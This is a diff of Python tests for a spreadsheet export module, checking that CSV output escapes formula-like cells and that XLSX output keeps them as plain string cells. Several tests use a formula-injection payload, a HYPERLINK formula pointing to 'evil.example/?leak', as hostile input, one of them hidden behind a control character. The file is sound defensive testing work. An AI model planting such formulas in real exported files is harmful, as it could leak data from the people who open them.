@@ -24,9 +24,11 @@ def test_a_cell_that_a_spreadsheet_would_run_is_written_as_text(value, written):
     assert exports.escape(value) == written
 
 
-def test_lists_become_text_and_are_escaped_too():
+def test_lists_become_text_escaped_in_csv_as_any_text():
     assert exports.cell(["a", "b"]) == "a; b"
-    assert exports.cell(["-1", "b"]) == "'-1; b"
+    assert exports.cell(["-1", "b"]) == "-1; b"  # each format keeps it from running its own way
+    content = _csv_of_one({"_id": "hh_5", "owner": {}, "amount_cents": 1, "note": ["-1", "b"]})
+    assert list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))[1][4] == "'-1; b"
 
 
 def test_personal_data_is_masked_for_roles_that_do_not_see_it_in_full():
@@ -63,13 +65,54 @@ def test_csv_is_utf8_with_a_bom_and_escapes_formulas():
     assert rows[2] == ["hh_2", "Li Lei", "139****9000", "0", ""]
 
 
-def test_xlsx_keeps_numbers_as_numbers_and_escapes_text():
+def test_xlsx_keeps_numbers_as_numbers_and_text_as_string_cells():
     count, content, _ = collect(exports.write_xlsx, [])
     sheet = openpyxl.load_workbook(io.BytesIO(content)).active
     rows = [list(r) for r in sheet.iter_rows(values_only=True)]
     assert count == 2 and rows[0] == ["id", "name", "phone", "amount_cents", "note"]
-    assert rows[1] == ["hh_1", "张*", "138****8000", -1250, "'=HYPERLINK(\"http://x\")"]
+    assert rows[1] == ["hh_1", "张*", "138****8000", -1250, "=HYPERLINK(\"http://x\")"]
     assert rows[2][3] == 0 and rows[2][4] is None
+    assert [c.data_type for c in sheet[2]] == ["s", "s", "s", "n", "s"]
+
+
+def _csv_of_one(doc):
+    chunks = []
+    sink = exports.Chunks(lambda n, data: chunks.append(data), exports.CHUNK_BYTES)
+    assert exports.write_csv(COLUMNS, iter([doc]), {personal_data.OWNER_NAME, personal_data.OWNER_PHONE}, sink) == 1
+    sink.close()
+    return b"".join(chunks)
+
+
+def _cells_xml(content):
+    """Each cell of the first sheet as its XML says: (reference, type, formula or None, text)."""
+    import zipfile
+    from xml.etree import ElementTree
+    ns = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
+    with zipfile.ZipFile(io.BytesIO(content)) as book:
+        root = ElementTree.fromstring(book.read("xl/worksheets/sheet1.xml"))
+    return {c.get("r"): (c.get("t"), c.findtext("m:f", namespaces=ns), c.findtext("m:is/m:t", namespaces=ns))
+            for c in root.iter(f"{{{ns['m']}}}c")}
+
+
+def test_xlsx_writes_formula_like_text_as_it_is_in_string_cells_and_csv_still_escapes_it():
+    """Found by a probe: the CSV's protecting "'" showed in XLSX cells as data ("'+8613800000000").
+    An XLSX string cell is never evaluated, so the text is written as it is, typed as a string."""
+    doc = {"_id": "hh_6", "owner": {"name": '=HYPERLINK("https://evil.example/?leak","Click")',
+                                    "phone": "+8613800000000"}, "amount_cents": 1, "note": "#N/A"}
+    chunks = []
+    sink = exports.Chunks(lambda n, data: chunks.append(data), exports.CHUNK_BYTES)
+    exports.write_xlsx(COLUMNS, iter([doc]), {personal_data.OWNER_NAME, personal_data.OWNER_PHONE}, sink)
+    sink.close()
+    content = b"".join(chunks)
+    cells = _cells_xml(content)
+    assert cells["B2"] == ("inlineStr", None, '=HYPERLINK("https://evil.example/?leak","Click")')
+    assert cells["C2"] == ("inlineStr", None, "+8613800000000")
+    assert cells["E2"] == ("inlineStr", None, "#N/A")  # text, not an error cell
+    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
+    assert [(c.value, c.data_type) for c in sheet[2]][1:3] == [
+        ('=HYPERLINK("https://evil.example/?leak","Click")', "s"), ("+8613800000000", "s")]
+    row = list(csv.reader(io.StringIO(_csv_of_one(doc).decode("utf-8-sig"), newline="")))[1]
+    assert row[1:3] == ['\'=HYPERLINK("https://evil.example/?leak","Click")', "'+8613800000000"]
 
 
 def _xlsx_of_one(doc):
@@ -98,8 +141,9 @@ def test_a_formula_behind_a_control_character_stays_text_in_xlsx():
                             "note": '\x01=HYPERLINK("https://evil.example/?leak","Click")'})
     with zipfile.ZipFile(io.BytesIO(content)) as book:
         assert b"<f>" not in book.read("xl/worksheets/sheet1.xml")
-    row = [list(r) for r in openpyxl.load_workbook(io.BytesIO(content)).active.iter_rows(values_only=True)][1]
-    assert row[1] == "'=1+1" and row[4] == "'=HYPERLINK(\"https://evil.example/?leak\",\"Click\")"
+    cells = _cells_xml(content)
+    assert cells["B2"] == ("inlineStr", None, "=1+1")
+    assert cells["E2"] == ("inlineStr", None, '=HYPERLINK("https://evil.example/?leak","Click")')
 
 
 def test_a_file_is_cut_into_numbered_chunks():
@@ -118,7 +162,7 @@ def test_an_empty_export_is_one_chunk_with_the_header():
 def test_custom_fields_become_columns_after_the_resources_own():
     columns = [field("id", "_id")] + exports.custom_columns(["colour", "=evil"])
     assert [c.name for c in columns] == ["id", "custom.colour", "custom.=evil"]
-    assert exports.row(columns, {"_id": "x", "custom": {"colour": "-red"}}, []) == ["x", "'-red", ""]
+    assert exports.row(columns, {"_id": "x", "custom": {"colour": "-red"}}, []) == ["x", "-red", ""]  # escaped by CSV
     assert exports.row(columns, {"_id": "y", "custom": {"colour": False}}, []) == ["y", "false", ""]  # as imported
 
 
